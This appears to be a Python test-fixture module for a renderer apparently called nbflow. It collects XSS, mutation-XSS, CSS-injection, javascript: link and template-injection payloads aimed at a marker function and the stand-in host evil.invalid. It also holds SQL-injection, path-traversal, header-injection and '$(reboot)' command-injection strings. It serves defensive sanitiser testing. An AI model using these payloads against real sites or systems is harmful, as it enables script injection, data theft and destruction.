"""Strings that try to be more than text. What runs calls `nbflowTrap`; what loads asks `evil.invalid`; styles set a mark."""

from __future__ import annotations

import base64
from typing import Final

CALL: Final = "nbflowTrap()"
EVIL: Final = "http://evil.invalid/x"
MARK: Final = "--nbflow-escaped:1"
"""A custom property: computed styles tell where it has reached."""

_SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{CALL}"><script>{CALL}</script></svg>'
_SVG_URL: Final = f"data:image/svg+xml;base64,{base64.b64encode(_SVG.encode()).decode()}"
_HTML_URL: Final = f"data:text/html,<script>{CALL}</script>"

SCRIPTS: Final = [
    f"<script>{CALL}</script>",
    f"<SCRIPT SRC={EVIL}></SCRIPT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<script/x>{CALL}</script\t\n>",
    f"<img src=x onerror={CALL}>",
    f'<img src=x onerror="{CALL}"//',
    f"<IMG SRC=x OnErRoR = '{CALL}'>",
    f"<img/src=x/onerror={CALL}>",
    f"<img srcset='{EVIL} 1x' src=x onerror={CALL}>",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{CALL}'><text y=20>link</text></a></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to='javascript:{CALL}'/><a id=x><text>a</text></a></svg>",
    f"<svg><use href='{_SVG_URL}#x'/></svg>",
    f"<svg><foreignObject><img src=x onerror={CALL}></foreignObject></svg>",
    f"<body onload={CALL}>",
    f"<iframe src='javascript:{CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<object data='{_HTML_URL}'></object><embed src='{_HTML_URL}'>",
    f"<video><source onerror={CALL}></video><audio src=x onerror={CALL}>",
    f"<details open ontoggle={CALL}>x</details>",
    f"<input autofocus onfocus={CALL}>",
    f"<marquee onstart={CALL}>x</marquee>",
    f"<form action='javascript:{CALL}'><button>send</button></form>",
    f"<button formaction='javascript:{CALL}' form=f>send</button>",
    f"<base href='{EVIL}/'><link rel=stylesheet href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<link rel=import href='{EVIL}'><link rel=preload as=image href='{EVIL}'>",
    f"<xml onreadystatechange={CALL}><x style='animation-name:spin' onanimationstart={CALL}>",
    f"<div onpointerrawupdate={CALL} onmouseover={CALL} style='width:9999px;height:9999px'>x</div>",
    f"'\"><img src=x onerror={CALL}>",
    f'" onmouseover="{CALL}" onfocus="{CALL}" autofocus="',
    f"' onerror='{CALL}' src='x",
    f"--><img src=x onerror={CALL}><!--",
    f"]]><img src=x onerror={CALL}>",
    f"</title></textarea></style></noscript></template></script><img src=x onerror={CALL}>",
    f"\x3cimg src=x onerror={CALL}\x3e".replace("<", "\uff1c"),
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-",
    f"&lt;img src=x onerror={CALL}&gt;",
    f"&amp;lt;script&amp;gt;{CALL}",
    f"&#60;img src=x onerror={CALL}&#62;&#x3c;img src=x onerror={CALL}&#x3e;",
    f"%3Cimg%20src=x%20onerror={CALL}%3E",
    f"<img src=x:x onerror\x0b={CALL}><img \x00src=x on\x00error={CALL}>",
]

MUTATIONS: Final = [
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={CALL}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={CALL}>">',
    f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={CALL}></style></annotation-xml></math>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f"<template><style></template><img src=x onerror={CALL}></style>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={CALL}>",
    f"<form id=a><input name=attributes><input name=parentNode></form><img src=x onerror={CALL} name=body>",
    f"<div id=a><a id=nodeName name=nodeName></a></div><img name=cookie id=currentScript src=x onerror={CALL}>",
    f'<xmp><p title="</xmp><img src=x onerror={CALL}>">',
    f"<plaintext><img src=x onerror={CALL}>",
    f"<select><template><img src=x onerror={CALL}></template><style></select><img src=x onerror={CALL}>",
    f"<svg><style>&lt;/style&gt;&lt;img src=x onerror={CALL}&gt;</style></svg>",
    f"<math><mi><![CDATA[<img src=x onerror={CALL}>]]></mi></math>",
    f"<table><td><a><table><svg><desc><b><i><style><!--</style><img src=x onerror={CALL}>-->",
    f'<textarea><p id="</textarea><img src=x onerror={CALL}>"></textarea>',
    "<b>" * 600 + f"<img src=x onerror={CALL}>",
    f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e '<img src=x onerror={CALL}>'>]><x>&e;</x>",
    f"<a is=x-y slot=evil part=evil exportparts=evil>x</a><slot name=x><img src=x onerror={CALL}></slot>",
]

STYLES: Final = [
    f"<style>*,:host,html,body{{{MARK}!important}}</style>",
    f"</style><style>*{{{MARK}}}</style>",
    f"<style>@import url('{EVIL}');@import '{EVIL}';@font-face{{font-family:x;src:url({EVIL})}}*{{font-family:x}}</style>",
    f"<style>:host{{position:fixed!important;inset:0!important;z-index:2147483647!important;{MARK}}}</style>",
    f"<div style='position:fixed;inset:0;z-index:2147483647;background:url({EVIL})'>over all</div>",
    "<div style='position:/**/fixed;inset:0;z-index:2147483647'>over all</div>",
    "<div style='position:absolute;left:-500px;top:-5000px;width:9000px;height:9000px;z-index:9999999'>over all</div>",
    "<div style='margin:-3000px;width:9000px;height:9000px;transform:scale(50)'>over all</div>",
    f"<p style='background:url(\"{EVIL}\")'>a</p><p style='background-image:image-set(\"{EVIL}\" 1x)'>a</p>",
    f"<p style='width:expression({CALL});behavior:url({EVIL});-moz-binding:url({EVIL})'>a</p>",
    f"<p style='b\\61ckground:u\\72l({EVIL})'>a</p>",
    f"<p style='list-style-image:url({EVIL});cursor:url({EVIL}),auto;content:url({EVIL})'>a</p>",
    f"<table background='{EVIL}'><td background={EVIL}>a</table>",
    f"red;background:url({EVIL});{MARK}",
    f"}}*{{{MARK}}}",
]

LINKS: Final = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f" \x01javascript:{CALL}",
    f"java\nscript:{CALL}",
    f"java\tscript:{CALL}",
    f"javascript&colon;{CALL}",
    f"&#106;avascript:{CALL}",
    f"vbscript:{CALL}",
    f"livescript:{CALL}",
    _HTML_URL,
    f"data:text/html;base64,{base64.b64encode(f'<script>{CALL}</script>'.encode()).decode()}",
    _SVG_URL,
    "file:///etc/passwd",
    "blob:null/x",
    "about:blank",
    f"view-source:{EVIL}",
    "intent://x#Intent;scheme=http;end",
    f"[a](javascript:{CALL}) [b](<javascript:{CALL}>) [c](java&#10;script:{CALL}) [d](javascript&#58;{CALL})",
    f"<javascript:{CALL}> ![a](javascript:{CALL}) [![x](x)](data:text/html,{CALL})",
    f"[a]: javascript:{CALL}\n\n[a] [b][a]",
    f'[a](x \'title" onmouseover="{CALL}\') [b](x"onmouseover="{CALL})',
    f"<a href='javascript:{CALL}' target=_self ping='{EVIL}'>a</a><area href='javascript:{CALL}'>",
    f"<a href='\x01javascript:{CALL}'>a</a><a href='java&Tab;script:{CALL}'>b</a>",
]

LANGUAGES: Final = [
    f"$\\href{{javascript:{CALL}}}{{x}}$ $\\url{{javascript:{CALL}}}$",
    f"$\\includegraphics{{{EVIL}}}$ $\\htmlData{{onerror={CALL}}}{{x}}$",
    f"$\\htmlStyle{{{MARK}}}{{x}}\\htmlClass{{a}}{{x}}\\htmlId{{b}}{{y}}$",
    f"$\\text{{<img src=x onerror={CALL}>}}$ $$\\unicode{{x3c}}img$$",
    "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\kern-9999em x$",
    f':red[<img src=x onerror={CALL}>] :material/{CALL}: :color[a]{{foreground="red;{MARK}"}}',
    f'graph TD; A["<img src=x onerror={CALL}>"]-->B; click A call {CALL.removesuffix("()")}() "t"; click B href "javascript:{CALL}"',
    f'%%{{init: {{"securityLevel": "loose", "themeCSS": "*{{{MARK}}}", "htmlLabels": true}}}}%%\ngraph TD; A["`<img src=x onerror={CALL}>`"]',
    f'digraph {{ a [URL="javascript:{CALL}", label=<<TABLE HREF="javascript:{CALL}"><TR><TD>a</TD></TR></TABLE>>, image="{EVIL}"] }}',
    f'digraph {{ a [label="<script>{CALL}</script>", tooltip="\\" onload=\\"{CALL}", class="x\\" onclick=\\"{CALL}", style="{MARK}"] }}',
    f"{{{{constructor.constructor('{CALL}')()}}}} ${{{CALL}}} #{{{CALL}}} <%= {CALL} %>",
    f"datum.constructor.constructor('{CALL}')()",
    f"{{a|x}}{{b}}{{@{CALL}}}<b onmouseover={CALL}>x</b>",
    f'<a href="javascript:{CALL}">plotly</a><br><span style="{MARK}">x</span>',
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
]

NAUGHTY: Final = [
    "", " ", "\t\n\r", "\0", "a\0b", "\x01\x02\x1b[31mred\x1b[0m", "\x7f\x80\x9f",
    "\ud800", "a\udfffb", "\ufeff\ufffe\uffff", "\u200b\u200d\u2060\u00ad", "\u2028\u2029",
    "\u202eabc\u202d \u2066\u2067\u2069", "\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u05e2\u05d1\u05e8\u05d9\u05ea",
    "Z" + "\u0351\u0322\u0334\u0360" * 200, "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 20, "\U000e0041\U000e007f",
    "\ufdfd" * 50, "\u1100" * 100, "A" * 5_000, "a " * 2_000, "*" * 500 + "a" + "*" * 500, "[" * 500, ">" * 200 + "a", "`" * 501,
    "NaN", "Infinity", "-0", "1e999", "null", "undefined", "true", "0x10", "1;DROP TABLE users", "' OR 1=1 --",
    "../../../../etc/passwd", "C:\\con\\aux", "file\nname: x\r\nSet-Cookie: a=b", "%s%n%x{0}{a.b}", "$(reboot)`reboot`|;",
    "| a | b |\n|---|---|\n| c | d |", "# h\n\n---\n\n- [x] a\n\n```python\nx\n```",
]  # fmt: skip

ALL: Final = [*SCRIPTS, *MUTATIONS, *STYLES, *LINKS, *LANGUAGES, *NAUGHTY]

_SCRIPTS: Final = "\n\n".join(SCRIPTS)

FEW: Final = [
    _SCRIPTS,
    *MUTATIONS[:6],
    "\n\n".join(STYLES[:8]),
    STYLES[3],
    *LINKS[:2],
    LINKS[2] + LINKS[3],
    "\n\n".join(LINKS[17:]),
    *LANGUAGES[:2],
    *LANGUAGES[6:12],
    "\n".join(NAUGHTY[:20]),
]
"""What `make campaign` tries in each host by default: many in one text where one does not swallow the next."""

QUICK: Final = [
    _SCRIPTS + MUTATIONS[0] + MUTATIONS[1],
    "\n\n".join(STYLES[:8]),
    LINKS[0],
    "\n\n".join(LINKS[17:]) + LANGUAGES[0] + LANGUAGES[6],
    LANGUAGES[8],
]
"""What `make test` tries in each host."""

TEXTS: Final = {"": QUICK, "short": FEW, "long": ALL}
"""By `NBFLOW_CAMPAIGN`."""
